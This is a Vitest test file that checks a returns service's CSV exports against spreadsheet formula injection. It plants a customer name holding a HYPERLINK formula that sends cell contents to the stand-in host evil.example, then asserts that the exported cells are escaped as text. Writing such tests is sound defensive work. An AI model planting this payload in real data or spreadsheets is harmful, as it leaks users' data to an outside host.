import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { orderBody } from './helpers/fixtures.ts';
import { startTestApp, type TestApp } from './helpers/test-app.ts';

/**
 * CSV formula injection: a customer name, SKU or category a spreadsheet would run as a formula
 * comes out of every CSV the product writes as plain text.
 */
let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(async () => {
  await t?.close();
});

const NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")';

const rowsOf = (text: string) =>
  parse(text.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];

describe('CSV exports', () => {
  it('write formula-looking names, SKUs and categories as text', async () => {
    const body = orderBody({ customer: { email: 'formula@example.com', name: NAME } });
    const lines = body.lines as Record<string, unknown>[];
    lines[0] = { ...lines[0], sku: '=1+2', category: '@sum(1+1)' };
    const order = (await t.api.post('/api/v1/orders', body)).body;
    const filed = await t.api.post('/api/v1/returns', {
      orderId: order.id,
      resolution: 'refund',
      lines: [{ orderLineId: order.lines[0].id, quantity: 1, reasonCode: 'damaged' }],
    });
    expect(filed.status).toBe(201);

    const console = (await t.api.get('/api/v1/console/returns.csv?q=formula%40example.com')).body as string;
    const row = rowsOf(console)[0]!;
    const cells = Object.values(row);
    expect(cells).toContain(`'${NAME}`);
    expect(cells.filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);

    const day = new Date().toISOString().slice(0, 10);
    const rate = (
      await t.api.get(`/api/v1/analytics/return-rate?from=${day}&to=${day}&groupBy=product&format=csv`)
    ).body as string;
    const skuRows = rowsOf(rate);
    expect(skuRows.some((r) => Object.values(r).includes("'=1+2"))).toBe(true);
    const byCategory = (
      await t.api.get(`/api/v1/analytics/return-rate?from=${day}&to=${day}&groupBy=category&format=csv`)
    ).body as string;
    expect(rowsOf(byCategory).some((r) => Object.values(r).includes("'@sum(1+1)"))).toBe(true);
    for (const text of [rate, byCategory]) {
      for (const r of rowsOf(text)) expect(Object.values(r).filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
    }
  });
});
